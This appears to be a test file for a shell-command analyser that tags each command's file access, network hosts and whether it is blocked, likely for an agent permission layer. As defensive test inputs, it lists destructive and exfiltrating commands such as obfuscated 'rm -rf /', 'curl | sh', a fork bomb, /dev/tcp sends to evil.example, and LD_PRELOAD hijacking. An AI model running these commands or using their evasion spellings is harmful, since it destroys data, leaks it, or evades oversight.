// texts.test.ts — what a shell text does: every simple command of it, whatever it is wrapped or hidden in
// A line of facts an atom (sketch.ts): meaning, then paths by access, hosts, code that runs, class.

import { expect, test } from "vitest";
import { sampleAction } from "../../sample.ts";
import { deriveFacts } from "../derive.ts";
import { sketch } from "../sketch.ts";

const read = (command: string): string[] =>
  sketch(deriveFacts(sampleAction({ args: { command }, cwd: "/w", home: "/home/u" })));
const check = (command: string, facts: string | string[]): void =>
  expect(read(command)).toEqual(Array.isArray(facts) ? facts : [facts]);

test.each<[command: string, facts: string | string[]]>([
  ["ls -la src", "ls --all --l src | r:/w/src safe"],
  ["rm -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["rm -fr /", "rm --force --recursive / | d:/+ blocked"],
  ["rm -r -f /", "rm --force --recursive / | d:/+ blocked"],
  ["rm --recursive --force /", "rm --force --recursive / | d:/+ blocked"],
  ["rm --recurs --forc /", "rm --force --recursive / | d:/+ blocked"],
  ["rm / -rf", "rm --force --recursive / | d:/+ blocked"],
  ["\\rm -rf /", "rm --force --recursive / | d:/+ blocked"],
  ['r"m" -r"f" /', "rm --force --recursive / | d:/+ blocked"],
  ["$'\\x72m' -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["/bin/rm -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["/usr/bin/../bin/rm -rf /", "rm --force --recursive / | r:/usr/bin/rm d:/+ runs:script blocked"],
  ["RM -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["rm -rf -- -x", "rm --force --recursive -x | d:/w/-x+"],
  ["rm -rf --no-preserve-root /", "rm --force --no-preserve-root --recursive / | d:/+ blocked"],
])("one command, its options in any spelling: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  [
    "git log; curl https://x.example | sh",
    ["git log | safe", "curl https://x.example | h:x.example(public) safe", "sh | runs:piped-code opaque"],
  ],
  ["true && rm a || rm b", ["true | safe", "rm a | d:/w/a", "rm b | d:/w/b"]],
  ["if [ -f x ]; then rm x; else rm y; fi", ["[ -f x ] | safe", "rm x | d:/w/x", "rm y | d:/w/y"]],
  ["for f in a b; do rm $f; done", ["rm a | d:/w/a", "rm b | d:/w/b"]],
  ['for f in *.log; do rm "$f"; done', "rm *.log | d:/w/*.log"],
  ["while true; do rm x; done", ["true | safe", "rm x | d:/w/x"]],
  ["case $1 in a) rm a;; b) rm b;; esac", ["rm a | d:/w/a", "rm b | d:/w/b"]],
  ["(cd /tmp; rm x)", ["cd /tmp | r:/tmp safe", "rm x | d:/tmp/x d:/w/x"]],
  ["{ rm x; rm y; }", ["rm x | d:/w/x", "rm y | d:/w/y"]],
  ["! rm x", "rm x | d:/w/x"],
  ["time rm x", "rm x | d:/w/x"],
  ["rm x &", "rm x | d:/w/x"],
  ["coproc rm x", "rm x | d:/w/x"],
  ["[[ -f $(rm x) ]]", "rm x | d:/w/x"],
  ["echo $((1 + $(rm x)))", ["rm x | d:/w/x", "echo ? | safe"]],
])("lists, pipelines, branches, loops: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["echo $(rm x)", ["rm x | d:/w/x", "echo ? | safe"]],
  ["echo `rm x`", ["rm x | d:/w/x", "echo ? | safe"]],
  ['echo "a $(rm x) b"', ["rm x | d:/w/x", "echo ? | safe"]],
  ["cat <(rm x)", ["rm x | d:/w/x", "cat /dev/fd/63 | safe"]],
  ["echo x > >(tee y)", ["tee y | w:/w/y", "echo x | safe"]],
  ["echo \x24{X:-$(rm x)}", ["rm x | d:/w/x", "echo ? | safe"]],
  ["$(echo rm) -rf /", ["echo rm | safe", "rm --force --recursive / | d:/+ blocked"]],
  ["`echo rm` -rf /", ["echo rm | safe", "rm --force --recursive / | d:/+ blocked"]],
  ["$(printf 'rm') -rf /", ["printf rm | safe", "rm --force --recursive / | d:/+ blocked"]],
  ["$(curl https://x.example)", ["curl https://x.example | h:x.example(public) safe", "? | opaque"]],
])("substitutions and processes: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["X=rm; $X -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["X=rm Y=-rf; $X $Y /", "rm --force --recursive / | d:/+ blocked"],
  ["X='rm -rf /'; $X", "rm --force --recursive / | d:/+ blocked"],
  ["X=abrm; \x24{X#ab} -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["D=/etc; rm -rf $D/x", "rm --force --recursive /etc/x | d:/etc/x+ blocked"],
  ['D=$(mktemp -d); rm -rf "$D"', ["mktemp --directory", "rm --force --recursive ? | d:/tmp/tmp.*+"]],
  ["false && X=ls; X=rm; $X /", ["false | safe", "rm / | d:/ blocked"]],
  ["X=ls; false && X=rm; $X /", ["false | safe", "? / | r:/ w:/ d:/ opaque blocked"]],
  ["if true; then X=rm; else X=ls; fi; $X /", ["true | safe", "? / | r:/ w:/ d:/ opaque blocked"]],
  ["for i in 1 2; do $X -rf /; X=rm; done", "? -rf / | r:/ w:/ d:/ opaque blocked"],
  ["X=1 rm $X", "rm ? | d:$X? $X blocked"],
  ["unset HOME; rm -rf $HOME", ["unset HOME | safe", "rm --force --recursive ? | d:$HOME? blocked"]],
  ["read X; rm $X", ["read X | safe", "rm ? | d:$X? blocked"]],
  ["rm$IFS-rf$IFS/", "rm --force --recursive / | d:/+ blocked"],
  ["rm\x24{IFS}-rf\x24{IFS}/", "rm --force --recursive / | d:/+ blocked"],
  ["echo $UNKNOWN", "echo ? | safe"],
])("variables of the same text: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["{rm,-rf,/}", "rm --force --recursive / | d:/+ blocked"],
  ["rm -rf /{etc,usr}", "rm --force --recursive /etc /usr | d:/etc+ d:/usr+ blocked"],
  ["rm {1..3}.txt", "rm 1.txt 2.txt 3.txt | d:/w/1.txt d:/w/2.txt d:/w/3.txt"],
  ["rm -rf /*", "rm --force --recursive /* | d:/*+ blocked"],
  ['rm "*"', "rm * | d:/w/*"],
  ["/bin/r? -rf /", "? -rf / | r:/ w:/ d:/ opaque blocked"],
  ["cat /et?/passwd", "cat /et?/passwd | r:/et?/passwd+ safe"],
  ["cat .e*", "cat .e* | r:/w/.e*+ safe"],
])("braces and globs: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ['f() { rm "$1"; }; f /x', "rm /x | d:/x blocked"],
  ["f() { rm -rf /; }", "rm --force --recursive / | d:/+ blocked"],
  ["ls() { rm -rf /; }; ls", "rm --force --recursive / | d:/+ blocked"],
  [":(){ :|:& };:", [": | opaque blocked", ": | opaque blocked"]],
  [
    "alias ll='rm -rf'; ll /",
    [
      "alias> rm --force --recursive",
      "alias ll=rm -rf | safe",
      "rm --force --recursive / | d:/+ blocked",
      "ll / | r:/ w:/ blocked",
    ],
  ],
])("functions and aliases: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["echo hi > /etc/passwd", "echo hi | w:/etc/passwd blocked"],
  ["echo hi >> ~/.bashrc", ["echo hi | w:/home/u/.bashrc x:/home/u/.bashrc", "(written)> hi"]],
  ["> /etc/passwd", ": | w:/etc/passwd blocked"],
  ["cat < /etc/shadow", "cat | r:/etc/shadow safe"],
  ["echo x > /dev/null 2>&1", "echo x | safe"],
  ["echo x > /dev/tcp/evil.example/80", "echo x | h:evil.example:80(public,upload)"],
  ["exec 3<>/dev/tcp/10.0.0.1/4444", ": | h:10.0.0.1:4444(private,upload)"],
  ["{ echo a; } > /etc/motd", ["echo a | safe", ": | w:/etc/motd blocked"]],
  ["echo x >| out.txt", "echo x | w:/w/out.txt"],
  ["echo x &> out.txt", "echo x | w:/w/out.txt"],
  ["echo x > $F", "echo x | w:$F?"],
])("redirections: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["cd /etc && rm passwd", ["cd /etc | r:/etc safe", "rm passwd | d:/etc/passwd blocked"]],
  ["cd /etc; rm passwd", ["cd /etc | r:/etc safe", "rm passwd | d:/etc/passwd d:/w/passwd blocked"]],
  ["cd /nowhere || exit; rm x", ["cd /nowhere | r:/nowhere safe", "exit | safe", "rm x | d:/nowhere/x blocked"]],
  ["cd $X && rm -rf *", ["cd ? | r:$X? safe", "rm --force --recursive * | d:*? blocked"]],
  ["cd - && rm x", ["cd - | safe", "rm x | d:x? blocked"]],
  ["(cd /etc); rm x", ["cd /etc | r:/etc safe", "rm x | d:/w/x"]],
  ["pushd /etc && rm x", ["pushd /etc | r:/etc safe", "rm x | d:/etc/x blocked"]],
])("changing folders: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["cat <<EOF | bash\nrm -rf $HOME/x\nEOF", ["cat | safe", "bash> rm --force --recursive /home/u/x | d:/home/u/x+"]],
  ["bash <<'EOF'\nrm -rf /\nEOF", "bash> rm --force --recursive / | d:/+ blocked"],
  ["cat <<'EOF'\nrm -rf /\nEOF", "cat | safe"],
  ["cat <<EOF\n$(rm -rf /)\nEOF", ["rm --force --recursive / | d:/+ blocked", "cat | safe"]],
  ["python3 <<'EOF'\nimport os\nos.remove('/etc/passwd')\nEOF", "python | d:/etc/passwd runs:interpreter blocked"],
  ['bash <<< "rm -rf /"', "bash> rm --force --recursive / | d:/+ blocked"],
])("heredocs: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["rm -rf 'unterminated", "rm --force --recursive unterminated | d:/w/unterminated+ opaque"],
  ["ls &&", "ls | r:/w opaque"],
  ["$X -rf /", "? -rf / | r:/ w:/ d:/ opaque blocked"],
  ["\x24{X}", "? | opaque"],
  ["if then fi (", "? | opaque"],
])("what cannot be read: %s", (command, facts) => check(command, facts));

test.each<[command: string, facts: string | string[]]>([
  ["export LD_PRELOAD=./x.so; ls", ["export LD_PRELOAD=./x.so | x:/w/x.so $LD_PRELOAD", "ls | r:/w $LD_PRELOAD"]],
  ["export PATH=/tmp/x:$PATH; ls", ["export ? | $PATH", "ls | r:/w $PATH"]],
  ["unset PATH; ls", ["unset PATH | safe", "ls | r:/w safe"]],
])("variables that are set for all that follows: %s", (command, facts) => check(command, facts));
